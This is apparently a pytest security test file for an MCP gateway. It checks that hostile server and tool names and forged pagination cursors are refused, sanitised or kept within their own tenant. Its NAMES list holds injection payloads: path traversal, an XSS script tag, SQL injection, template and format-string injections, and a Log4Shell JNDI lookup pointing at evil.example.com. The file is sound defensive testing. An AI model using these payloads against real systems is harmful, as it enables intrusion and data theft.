"""Untrusted names and cursors: in paths, pages, log lines, and lists of others."""

import json
from typing import Any

import pytest

from tests.attacks.upstreams.conftest import (
    SERVERS,
    UpstreamDeployment,
    UpstreamUser,
    text_result,
    tool,
)
from tests.support.internet import Posted, result_answer
from tests.support.issuers import Send

NAMES = [
    "../../v1/mcp-servers",
    "..%2f..%2fadmin",
    "act?x=1#y",
    "<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "'; DROP TABLE entries; --",
    "%s%n%x",
    "${jndi:ldap://evil.example.com/a}",
]
UNPRINTABLE_NAMES = ['act\r\n{"event":"forged"}', "act\0", "act\u202egnp", "act\x1b[2J", "\ud800"]


@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_server_name_reaches_no_other_path(
    deployment: UpstreamDeployment, name: str
) -> None:
    """Its tools get plain names, and the name itself occurs in JSON only."""
    upstream = deployment.upstream_app.upstream("named")
    admin = deployment.of("acme")
    response = admin.ask("POST", SERVERS, {"name": name, "url": deployment.url("named")})
    assert response.status in {201, 400}, response
    if response.status == 400:
        assert response.json["field"] == "name"
        return
    identity = response.json["id"]
    try:
        assert admin.refresh(identity).status == 200
        before = len(upstream.of("tools/call"))
        for path in (f"/tool/{name}/call", f"/tool/mcp_{name}__act/call"):
            raw = admin.server.client.send(
                "POST", careless_path(path), (), b"{}", token=admin.token
            )
            assert raw.status in {400, 404, 405}, raw
        assert len(upstream.of("tools/call")) == before
        lines = [json.loads(line) for line in deployment.gate.log().splitlines() if line[:1] == "{"]
        assert not any(line.get("event") == "forged" for line in lines)
        deployment.others_go_on()
    finally:
        assert admin.ask("DELETE", f"{SERVERS}/{identity}").status == 204


@pytest.mark.parametrize("name", UNPRINTABLE_NAMES)
def test_names_with_control_or_reordering_characters_are_refused(
    deployment: UpstreamDeployment, name: str
) -> None:
    """A server with such a name is refused with the field; a tool is left out."""
    admin = deployment.of("acme")
    response = admin.ask("POST", SERVERS, {"name": name, "url": deployment.url("good")})
    assert response.status == 400
    assert response.json["error"] in {"invalid_field", "invalid_body"}
    _, user, identity = deployment.registered(
        "named",
        answers={
            "tools/list": result_answer({"tools": [tool(name.replace("\ud800", "\0")), tool()]})
        },
    )
    try:
        assert user.refresh(identity).status == 200
        deployment.offered(user, "mcp_named__act")
        assert len([name for name in user.names() if name.startswith("mcp_named")]) == 1
        log = deployment.gate.log()
        assert "\u202e" not in log
        assert "\x1b[2J" not in log
        assert '\n{"event":"forged"}' not in log
    finally:
        assert user.ask("DELETE", f"{SERVERS}/{identity}").status == 204


@pytest.mark.parametrize("name", [*NAMES, "ACT", "act ", "a" * 2_000])
def test_a_hostile_tool_name_reaches_no_other_path(
    deployment: UpstreamDeployment, name: str
) -> None:
    """The tool gets a plain name, and the upstream is called with its own name."""
    upstream, user, identity = deployment.registered(
        "named", answers={"tools/list": result_answer({"tools": [tool(name), tool("plain")]})}
    )
    try:
        assert user.refresh(identity).status == 200
        deployment.offered(user, "mcp_named__plain")
        for tool_name in (name for name in user.names() if name.startswith("mcp_named")):
            assert tool_name.replace("_", "").isalnum()
            assert tool_name.isascii()
            assert len(tool_name) <= 64
            assert user.call(tool_name).status == 200
            request = upstream.of("tools/call")[-1]
            assert request.body["params"]["name"] in {name, "plain"}
            assert "\r" not in request.headers.get("mcp-name", "")
        deployment.others_go_on()
    finally:
        assert user.ask("DELETE", f"{SERVERS}/{identity}").status == 204


def test_a_cursor_is_for_its_own_tenant_and_list(deployment: UpstreamDeployment) -> None:
    """Cursors of another tenant, list or upstream are refused; upstreams never see ours."""
    people: dict[str, UpstreamUser] = {}
    seen: list[Any] = []
    identities = {}
    for tenant in ("acme", "globex"):
        upstream = deployment.upstream_app.upstream(f"many_{tenant}")

        async def pages(posted: Posted, send: Send, tenant: str = tenant) -> None:
            cursor = posted.body["params"].get("cursor")
            seen.append(cursor)
            at = 0 if cursor is None else int(cursor.removeprefix("page-"))
            tools = [tool(f"{tenant}_{at}_{number}") for number in range(100)]
            more = {"nextCursor": f"page-{at + 1}"} if at < 5 else {}
            await result_answer({"tools": tools, **more})(posted, send)

        upstream.answers["tools/list"] = pages
        upstream.answers["tools/call"] = result_answer(text_result("x"))
        people[tenant] = deployment.of(tenant, "many")
        identities[tenant] = people[tenant].register("many", deployment.url(f"many_{tenant}"))
        assert people[tenant].refresh(identities[tenant]).status == 200
        deployment.offered(people[tenant], f"mcp_many__{tenant}_5_99")
    try:
        cursor = people["acme"].rpc("tools/list", {})["result"]["nextCursor"]
        assert "page-" not in cursor
        for person, method in (
            (people["globex"], "tools/list"),
            (people["acme"], "prompts/list"),
            (people["acme"], "resources/list"),
            (deployment.of("acme", sub="poor", scope="mcp:good"), "tools/list"),
        ):
            heard = person.rpc(method, {"cursor": cursor})
            names = str(heard.get("result", ""))
            assert "error" in heard or "mcp_many__acme" not in names, heard
        assert people["globex"].rpc("tools/list", {"cursor": cursor})["error"]["code"] == -32602
        for forged in ("page-1", "", "x" * 5_000):
            heard = people["acme"].rpc("tools/list", {"cursor": forged})
            assert heard["error"]["code"] == -32602, heard
        assert set(seen) == {None, *(f"page-{at}" for at in range(1, 6))}
        listed = [name for name in people["acme"].names() if name.startswith("mcp_many")]
        assert len(listed) == len(set(listed)) == 600
    finally:
        for tenant, identity in identities.items():
            assert people[tenant].ask("DELETE", f"{SERVERS}/{identity}").status == 204


def careless_path(path: str) -> str:
    """Encode only what would break the request line, as a careless client does."""
    return "".join(
        character if "!" <= character <= "~" else f"%{ord(character):02X}" for character in path
    )
